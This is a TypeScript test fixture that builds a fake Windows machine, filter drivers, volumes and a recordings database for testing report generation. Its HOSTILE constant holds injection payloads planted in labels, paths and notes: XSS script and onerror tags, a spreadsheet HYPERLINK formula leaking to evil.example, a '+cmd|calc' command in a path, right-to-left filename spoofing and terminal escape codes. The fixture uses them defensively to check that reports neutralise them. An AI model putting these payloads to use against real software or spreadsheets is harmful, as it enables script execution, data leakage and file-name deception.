import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Result } from '../../main/contract/failure.ts';
import type { Report } from '../../main/contract/report.ts';
import { memorySource } from '../../main/etw/byte-source.ts';
import { buildReport } from '../../main/service/exports/build-report.ts';
import { LiveSource } from '../../main/service/exports/live-source.ts';
import { Turns } from '../../main/service/exports/turns.ts';
import { importEvidence } from '../../main/service/import.ts';
import { importAndKeep } from '../../main/service/import-kept.ts';
import { Scans } from '../../main/service/scan/scans.ts';
import { addActiveCounts } from '../../main/store/active-counts.ts';
import { addLoss } from '../../main/store/losses.ts';
import { endRecording } from '../../main/store/recordings.ts';
import { gameVolume, startMachine, type TestMachine } from '../service/machine.ts';
import { newRecording, OpenDb, randomSamples, type Sample, TestFolder, writeSamples } from '../store/sample-events.ts';

type Part = NonNullable<Parameters<typeof startMachine>[0]>;

/** What people and drivers can put into names, and no report may act on. */
export const HOSTILE = {
  label: '<img src=x onerror=alert(1)>',
  company: '=HYPERLINK("http://evil.example/?leak","click")',
  reason: '</script><script>alert("x")</script> [evil](http://evil.example) @everyone',
  path: 'D:\\Games\\+cmd|calc \u202Egnp.exe',
  process: '-2+3\u001b[31m.exe',
  note: '=1+1\n<script>alert(2)</script>\n# Title @admin {html:title=x} !http://evil.example/x.png! ```\nline \u202E four',
} as const;

/** Five volumes, one of each verdict that a volume can have, with names that mean harm. */
export const MACHINE: Part = {
  machine: { name: 'QUIRM-PC7', os: '10.0.26100.1742', elevated: true },
  filters: [
    { name: 'WdFilter', driver: 'WdFilter.sys', altitude: '328010', supportedFeatures: 15, volumes: ['C:', 'D:', 'E:'] },
    { name: 'OldGuard', driver: 'OldGuard.sys', altitude: '321000', supportedFeatures: 3, company: HOSTILE.company, volumes: ['E:'] },
    { name: 'Older', driver: 'Older.sys', altitude: '300000', supportedFeatures: 3, volumes: ['E:'] },
    {
      name: 'VaultFlt',
      driver: 'VaultFlt.sys',
      altitude: '145010',
      supportedFeatures: 15,
      volumes: ['D:'],
      vetoes: [{ path: 'D:\\Games\\Vault\\*', status: 'STATUS_NOT_SUPPORTED_WITH_ENCRYPTION', reason: 'Encrypted file not supported' }],
    },
  ],
  volumes: [
    {
      mount: 'C:',
      label: HOSTILE.label,
      fileSystem: 'NTFS',
      storageDriver: 'stornvme.sys',
      busType: 'NVMe',
      compatible: true,
      stack: [
        {
          driver: 'fvevol.sys',
          layer: 'volume',
          veto: { status: 'STATUS_NOT_SUPPORTED_WITH_ENCRYPTION', reason: 'BitLocker Drive Encryption is enabled.' },
        },
      ],
    },
    {
      ...gameVolume,
      files: [
        { path: '\\Games\\Title\\pak0.bin', size: 1_073_741_824 },
        { path: '\\Games\\Title\\pak1.bin', size: 536_870_912, attributes: ['compressed'] },
        { path: '\\Games\\Vault\\secret.bin', size: 268_435_456 },
        { path: '\\Games\\Title\\=cmd.bin', size: 4_096, attributes: ['sparse'] },
      ],
    },
    { mount: 'E:', label: 'Library', fileSystem: 'NTFS', storageDriver: 'stornvme.sys', busType: 'NVMe', compatible: true },
    { mount: 'F:', label: 'Archive', fileSystem: 'NTFS', storageDriver: 'storahci.sys', busType: 'SATA', compatible: false },
    { mount: 'G:', label: 'Stick', fileSystem: 'exFAT', storageDriver: 'USBSTOR.SYS', busType: 'USB', compatible: false },
  ],
};

export const PATHS = ['D:\\Games\\Title\\pak0.bin', 'D:\\Games\\Title\\pak1.bin', 'E:\\', 'D:\\nothing\\there.bin'];
export const NOTE_US = 1_795_161_600_000_000;
const STARTED_US = 1_795_100_000_000_000;
const EVENTS = 400;
export const HOSTILE_EVENTS = 20;

/** A machine with a database that holds recordings, an imported trace and a scan. */
export class Evidence implements AsyncDisposable {
  readonly machine: TestMachine;
  readonly folder = new TestFolder();

  private constructor(part: Part) {
    this.machine = startMachine(part);
  }

  static async make(part: Part = MACHINE): Promise<Evidence> {
    const evidence = new Evidence(part);
    await evidence.#fill();
    return evidence;
  }

  /** Nothing was recorded, scanned or imported on it. */
  static bare(part: Part = MACHINE): Evidence {
    const evidence = new Evidence(part);
    new OpenDb(evidence.databaseFile)[Symbol.dispose]();
    return evidence;
  }

  get databaseFile(): string {
    return this.folder.database;
  }

  get source(): LiveSource {
    return new LiveSource(this.machine.system, this.databaseFile);
  }

  /** A report of it, made as the console and the window make theirs. */
  async report(paths: readonly string[] = PATHS, note: string | null = HOSTILE.note): Promise<Report> {
    const { source } = this;
    const taken = must(source.snapshot(paths));
    const written = note === null ? null : { timeUs: NOTE_US, text: note };
    const turns = new Turns(new AbortController().signal, () => undefined);
    return must(await buildReport({ source, taken, note: written, redaction: null }, turns));
  }

  async #fill(): Promise<void> {
    {
      using opened = new OpenDb(this.databaseFile);
      const recording = newRecording(opened.db, STARTED_US);
      writeSamples(opened.db, recording, samples());
      addActiveCounts(
        opened.db,
        recording,
        [0, 2, 1, 0].map((count, index) => ({ mount: 'D:', timeUs: STARTED_US + index * 1_000_000, count })),
      );
      addLoss(opened.db, recording, { timeUs: STARTED_US + 2_000_000, events: 3, buffers: 1 });
      endRecording(opened.db, recording, STARTED_US + 9_000_000, 'stopped');
    }
    const trace = readFileSync(join(import.meta.dirname, '..', 'fixtures', 'evidence', 'vetoes.etl'));
    must(await importAndKeep((keeper) => importEvidence(memorySource(trace), 'vetoes.etl', { keeper }), this.databaseFile));
    const scans = new Scans(this.machine.system, this.databaseFile);
    const started = must(scans.start({ roots: ['D:\\'], mode: 'every' }));
    await scans.ended(started.id);
    await scans.close();
  }

  async [Symbol.asyncDispose](): Promise<void> {
    this.machine[Symbol.dispose]();
    this.folder[Symbol.dispose]();
  }
}

/** Vetoes of several filters, own ones and other events among them, the last ones with hostile names. */
function samples(): Sample[] {
  const base = { filter: 'VaultFlt', processName: HOSTILE.process, path: HOSTILE.path, reason: HOSTILE.reason };
  const random = randomSamples(EVENTS, 7).map((sample, index) => ({ ...sample, timeUs: STARTED_US + index * 20_000 }));
  return [
    ...random,
    ...Array.from({ length: HOSTILE_EVENTS }, (_, index) => ({ ...base, timeUs: STARTED_US + 8_100_000 + index * 1_000 })),
  ];
}

export function must<T>(result: Result<T>): T {
  if (!result.ok) throw new Error(JSON.stringify(result.error));
  return result.value;
}
